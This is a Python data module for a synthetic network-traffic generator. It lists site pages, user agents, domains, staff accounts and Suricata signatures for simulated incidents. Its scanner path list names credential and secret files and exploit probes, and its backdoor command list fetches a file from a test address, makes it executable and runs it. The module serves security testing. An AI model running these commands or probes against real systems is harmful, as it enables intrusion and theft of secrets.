"""Static vocabularies of the synthetic traffic: sites, agents, domains, commands, signatures.

Everything here is plain data. Names that the generated incidents point at (tunnel, exfiltration
and IRC domains) use an ``example-`` prefix so that they cannot be mistaken for a real party.
"""

from __future__ import annotations

from dataclasses import dataclass

SITE_HOST = "www.example.com"
SITE_URL = "https://" + SITE_HOST

# (path, typical response bytes, relative popularity)
SITE_PAGES: tuple[tuple[str, int, float], ...] = (
    ("/", 18_240, 30.0),
    ("/index.html", 18_240, 2.0),
    ("/about", 9_812, 3.0),
    ("/contact", 7_431, 2.0),
    ("/careers", 8_020, 0.8),
    ("/privacy", 12_604, 0.5),
    ("/blog/", 21_377, 6.0),
    ("/blog/2024/choosing-a-three-season-tent", 34_118, 2.5),
    ("/blog/2024/layering-for-cold-weather", 29_540, 2.0),
    ("/blog/2024/packing-list-for-a-weekend-hike", 31_902, 3.0),
    ("/blog/2023/how-we-test-our-jackets", 27_015, 1.0),
    ("/blog/2023/repairing-a-sleeping-pad", 22_874, 0.8),
    ("/products/", 40_112, 8.0),
    ("/cart", 11_208, 3.0),
    ("/checkout", 14_333, 1.2),
    ("/account/login", 6_904, 2.0),
    ("/account/orders", 10_221, 0.8),
    ("/help/shipping", 8_776, 1.0),
    ("/help/returns", 8_102, 0.9),
    ("/stores", 15_440, 0.7),
)

PRODUCT_CATEGORIES: tuple[str, ...] = ("tents", "jackets", "backpacks", "sleeping-bags", "boots")
PRODUCT_NAMES: tuple[str, ...] = (
    "alpine-2p", "ridge-ultralight", "summit-pro", "trailhead-30l", "canyon-65l", "storm-shell",
    "down-hoodie", "fleece-midlayer", "glacier-minus-10", "meadow-plus-5", "scree-mid-gtx",
    "approach-low",
)  # fmt: skip

# (path, bytes) — static assets have a fixed size, as a file on disk does
STATIC_ASSETS: tuple[tuple[str, int], ...] = (
    ("/static/css/main.4f2a1c9e.css", 48_211),
    ("/static/js/app.9b1e77d2.js", 211_845),
    ("/static/js/vendor.71c2a0f5.js", 386_120),
    ("/static/img/logo.svg", 4_388),
    ("/static/img/hero-autumn.jpg", 243_913),
    ("/static/fonts/inter-var.woff2", 97_520),
    ("/favicon.ico", 15_086),
    ("/static/img/icons/cart.svg", 1_204),
    ("/static/img/icons/search.svg", 988),
)

# (path, method, bytes, popularity); status mix is decided in web.py
API_CALLS: tuple[tuple[str, str, int, float], ...] = (
    ("/api/v1/products?page=1", "GET", 6_420, 5.0),
    ("/api/v1/products?page=2", "GET", 6_388, 2.0),
    ("/api/v1/products?category=tents", "GET", 3_902, 1.5),
    ("/api/v1/search?q=tent", "GET", 2_870, 1.2),
    ("/api/v1/search?q=rain+jacket", "GET", 3_115, 1.0),
    ("/api/v1/cart", "GET", 742, 3.0),
    ("/api/v1/cart", "POST", 811, 1.5),
    ("/api/v1/session", "GET", 311, 2.0),
    ("/api/v1/login", "POST", 402, 0.6),
    ("/api/v1/newsletter", "POST", 97, 0.2),
)

HEALTH_PATH = "/api/v1/health"
MONITOR_AGENT = "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)"

# (user agent, relative share among browser visitors)
BROWSER_AGENTS: tuple[tuple[str, float], ...] = (
    (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/124.0.0.0 Safari/537.36",
        30.0,
    ),
    (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/123.0.0.0 Safari/537.36 Edg/123.0.2420.81",
        8.0,
    ),
    (
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
        "Version/17.4.1 Safari/605.1.15",
        9.0,
    ),
    (
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/124.0.0.0 Safari/537.36",
        8.0,
    ),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0", 6.0),
    ("Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0", 2.0),
    (
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/124.0.0.0 Safari/537.36",
        2.0,
    ),
    (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 "
        "(KHTML, like Gecko) Version/17.4.1 Mobile/15E148 Safari/604.1",
        16.0,
    ),
    (
        "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/124.0.0.0 Mobile Safari/537.36",
        14.0,
    ),
    (
        "Mozilla/5.0 (iPad; CPU OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
        "Version/17.4 Mobile/15E148 Safari/604.1",
        3.0,
    ),
)


@dataclass(frozen=True)
class Crawler:
    """A search-engine or SEO crawler: its agent and the /24 networks it crawls from."""

    agent: str
    networks: tuple[str, ...]
    share: float


CRAWLERS: tuple[Crawler, ...] = (
    Crawler(
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        ("66.249.66", "66.249.68", "66.249.79"),
        0.45,
    ),
    Crawler(
        "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
        ("157.55.39", "40.77.167", "207.46.13"),
        0.25,
    ),
    Crawler(
        "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
        ("54.36.148", "54.36.149"),
        0.15,
    ),
    Crawler(
        "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", ("5.255.253",), 0.1
    ),
    Crawler(
        "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
        ("185.191.171",),
        0.05,
    ),
)

# Clients that are neither browsers nor crawlers (scripts, integrations, probes)
TOOL_AGENTS: tuple[str, ...] = (
    "curl/8.5.0",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "Wget/1.21.4",
)

REFERER_SEARCH: tuple[str, ...] = (
    "https://www.google.com/",
    "https://www.google.co.uk/",
    "https://www.bing.com/",
    "https://duckduckgo.com/",
)
REFERER_SOCIAL: tuple[str, ...] = (
    "https://t.co/",
    "https://www.reddit.com/",
    "https://www.facebook.com/",
    "https://l.instagram.com/",
)

# Paths that internet background noise probes now and then (a handful a day)
PROBE_PATHS: tuple[str, ...] = ("/wp-login.php", "/.env", "/xmlrpc.php", "/admin/", "/.git/config")

# Web scanner vocabulary; combined with directory prefixes into hundreds of distinct paths
SCAN_TARGETS: tuple[str, ...] = (
    "wp-login.php", "wp-admin/", "xmlrpc.php", "wp-config.php.bak", ".env", ".env.backup",
    ".git/config", ".git/HEAD", ".svn/entries", ".htaccess", ".htpasswd", ".DS_Store",
    "phpmyadmin/", "pma/", "myadmin/", "phpinfo.php", "info.php", "test.php", "shell.php",
    "admin.php", "administrator/", "config.php", "config.inc.php", "configuration.php",
    "backup.zip", "backup.tar.gz", "site.sql", "db.sql", "dump.sql", "database.yml",
    "server-status", "server-info", "cgi-bin/printenv", "cgi-bin/test-cgi", "cgi-bin/php",
    "manager/html", "console/", "solr/admin/", "actuator/env", "actuator/health", "jmx-console/",
    "web.config", "WEB-INF/web.xml", "login.action", "owa/auth/logon.aspx", "remote/login",
    "vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "index.php?page=/proc/self/environ",
    "w00tw00t.at.ISC.SANS.DFind:)", "README.md", "CHANGELOG.txt", "composer.json",
    "package.json", "id_rsa", ".aws/credentials", ".ssh/authorized_keys", "debug.log",
    "error_log", "install.php", "setup.php", "upgrade.php", "old/", "tmp/", "uploads/",
)  # fmt: skip
SCAN_PREFIXES: tuple[str, ...] = ("/", "/admin/", "/old/", "/backup/", "/test/", "/wordpress/")
NIKTO_AGENT = "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:{test:06d})"


@dataclass(frozen=True)
class Domain:
    """A name the internal clients resolve: popularity, TTL and the services behind it."""

    name: str
    weight: float
    ttl: int
    https: bool = True


# Public names the office resolves; multi-label suffixes exercise registered-domain extraction
DOMAINS: tuple[Domain, ...] = (
    Domain("www.google.com", 30, 300),
    Domain("mail.google.com", 10, 300),
    Domain("fonts.googleapis.com", 8, 86400),
    Domain("www.gstatic.com", 9, 300),
    Domain("outlook.office365.com", 18, 60),
    Domain("login.microsoftonline.com", 12, 300),
    Domain("teams.microsoft.com", 10, 60),
    Domain("graph.microsoft.com", 7, 300),
    Domain("update.microsoft.com", 3, 3600, https=False),
    Domain("ctldl.windowsupdate.com", 2, 3600, https=False),
    Domain("github.com", 8, 60),
    Domain("api.github.com", 5, 60),
    Domain("objects.githubusercontent.com", 3, 300),
    Domain("pypi.org", 3, 300),
    Domain("files.pythonhosted.org", 3, 300),
    Domain("registry.npmjs.org", 2, 300),
    Domain("slack.com", 9, 300),
    Domain("wss-primary.slack.com", 4, 300),
    Domain("zoom.us", 4, 300),
    Domain("www.bbc.co.uk", 4, 300),
    Domain("news.bbc.co.uk", 2, 300),
    Domain("www.theguardian.com", 2, 60),
    Domain("www.amazon.co.uk", 2, 60),
    Domain("www.gov.uk", 1.5, 300),
    Domain("www.ox.ac.uk", 0.4, 3600),
    Domain("www.abc.net.au", 1, 300),
    Domain("www.commbank.com.au", 0.6, 300),
    Domain("www.yahoo.co.jp", 0.5, 300),
    Domain("g1.globo.com", 0.4, 300),
    Domain("www.wikipedia.org", 2.5, 600),
    Domain("en.wikipedia.org", 3, 600),
    Domain("stackoverflow.com", 3, 300),
    Domain("s3.amazonaws.com", 3, 5),
    Domain("d1.awsstatic.com", 1, 60),
    Domain("ocsp.digicert.com", 5, 3600, https=False),
    Domain("ocsp.pki.goog", 4, 3600, https=False),
    Domain("time.cloudflare.com", 1, 300),
    Domain("www.linkedin.com", 3, 300),
    Domain("www.youtube.com", 4, 300),
    Domain("i.ytimg.com", 2, 300),
    Domain("cdn.jsdelivr.net", 1.5, 300),
    Domain("security.ubuntu.com", 0.8, 60, https=False),
    Domain("archive.ubuntu.com", 0.8, 60, https=False),
)

INTERNAL_ZONE = "corp.example.org"
NXDOMAIN_NAMES: tuple[str, ...] = (
    "wpad." + INTERNAL_ZONE,
    "isatap." + INTERNAL_ZONE,
    "printer-3f." + INTERNAL_ZONE,
    "www.gooogle.com",
)

# Names used by incidents; the registered domains are what the labels point at
TUNNEL_ZONES: tuple[tuple[str, str], ...] = (
    ("t.example-tunnel.net", "example-tunnel.net"),
    ("ns2.example-cdn-sync.co.uk", "example-cdn-sync.co.uk"),
    ("d.example-telemetry.com.au", "example-telemetry.com.au"),
)
EXFIL_DOMAINS: tuple[str, ...] = ("upload.example-filedrop.com", "api.example-backup.co.uk")
IRC_DOMAIN = "irc.example-chat.net"

# (login, may use sudo)
STAFF: tuple[tuple[str, bool], ...] = (
    ("alice", True), ("bob", True), ("carol", False), ("dave", True), ("erin", False),
    ("frank", False), ("grace", True), ("heidi", False), ("ivan", False), ("judy", False),
    ("oscar", False), ("peggy", False), ("trent", True), ("victor", False), ("walter", False),
)  # fmt: skip
SERVICE_ACCOUNTS: tuple[str, ...] = ("deploy", "ansible", "backup")

BRUTE_FORCE_NAMES: tuple[str, ...] = (
    "root", "admin", "ubuntu", "test", "user", "oracle", "postgres", "guest", "pi", "ftpuser",
    "git", "deploy", "support", "administrator", "mysql", "www", "jenkins", "hadoop", "dev",
    "tomcat", "nagios", "minecraft", "steam", "ec2-user", "centos", "debian", "usuario", "alex",
)  # fmt: skip
BACKDOOR_NAMES: tuple[str, ...] = ("backup2", "sysadm", "svc-update")

SUDO_COMMANDS: tuple[str, ...] = (
    "/usr/bin/apt update",
    "/usr/bin/apt upgrade -y",
    "/usr/bin/systemctl restart apache2",
    "/usr/bin/systemctl status postfix",
    "/usr/bin/journalctl -u ssh --since today",
    "/usr/bin/tail -n 200 /var/log/syslog",
    "/usr/bin/docker ps",
    "/usr/sbin/ufw status",
    "/usr/bin/less /var/log/auth.log",
    "/usr/bin/df -h",
    "/usr/bin/vim /etc/hosts",
    "/usr/bin/crontab -l",
)
BACKDOOR_COMMANDS: tuple[str, ...] = (
    "/usr/bin/crontab -e",
    "/usr/bin/wget -q -O /tmp/.cache/upd http://198.18.0.1/upd",
    "/bin/chmod +x /tmp/.cache/upd",
    "/bin/bash",
)


@dataclass(frozen=True)
class Signature:
    """A Suricata rule as it appears in ``alert``: id, revision, message, class, priority."""

    sid: int
    rev: int
    name: str
    category: str
    severity: int


SIG_SSH_SCAN = Signature(2001219, 20, "ET SCAN Potential SSH Scan", "Attempted Information Leak", 2)
SIG_NMAP_SYN = Signature(
    2009582, 3, "ET SCAN NMAP -sS window 1024", "Attempted Information Leak", 2
)
SIG_NIKTO = Signature(
    2002677, 14, "ET SCAN Nikto Web App Scan in Progress", "Web Application Attack", 1
)
SIG_APT_AGENT = Signature(
    2013504,
    5,
    "ET POLICY GNU/Linux APT User-Agent Outbound likely related to package management",
    "Not Suspicious Traffic",
    3,
)
SIG_IRC_NICK = Signature(2002024, 19, "ET CHAT IRC NICK command", "Misc activity", 3)
SIG_IRC_USER = Signature(2002023, 16, "ET CHAT IRC USER command", "Misc activity", 3)
SIG_IRC_JOIN = Signature(2002025, 19, "ET CHAT IRC JOIN command", "Misc activity", 3)

_BAD = "Potentially Bad Traffic"
_LEAK = "Attempted Information Leak"
# Rules that fire on a single inbound SYN to a sensitive port (background noise and port scans)
PORT_SIGNATURES: dict[int, Signature] = {
    1433: Signature(2010935, 3, "ET SCAN Suspicious inbound to MSSQL port 1433", _BAD, 2),
    1521: Signature(2010936, 3, "ET SCAN Suspicious inbound to Oracle SQL port 1521", _BAD, 2),
    3306: Signature(2010937, 3, "ET SCAN Suspicious inbound to mySQL port 3306", _BAD, 2),
    5432: Signature(2010939, 3, "ET SCAN Suspicious inbound to PostgreSQL port 5432", _BAD, 2),
    **{p: Signature(2002910, 5, "ET SCAN Potential VNC Scan 5800-5820", _LEAK, 2)
       for p in range(5800, 5821)},
    **{p: Signature(2002911, 5, "ET SCAN Potential VNC Scan 5900-5920", _LEAK, 2)
       for p in range(5900, 5921)},
}  # fmt: skip

# Web scanner requests that carry their own rule besides the scanner's user agent
PATH_SIGNATURES: tuple[tuple[str, Signature], ...] = (
    (
        "phpinfo",
        Signature(2019526, 4, "ET WEB_SERVER WEB-PHP phpinfo access", "Information Leak", 2),
    ),
    (".htaccess", Signature(2101129, 8, "GPL WEB_SERVER .htaccess access", _LEAK, 2)),
    (
        "printenv",
        Signature(
            2101877,
            10,
            "GPL WEB_SERVER printenv access",
            "access to a potentially vulnerable web application",
            2,
        ),
    ),
    (
        "/proc/self/environ",
        Signature(
            2012230,
            4,
            "ET WEB_SERVER Likely Malicious Request for /proc/self/environ",
            "Web Application Attack",
            1,
        ),
    ),
    ("w00tw00t", Signature(2010794, 8, "ET WEB_SERVER DFind w00tw00t GET-Requests", _LEAK, 2)),
)
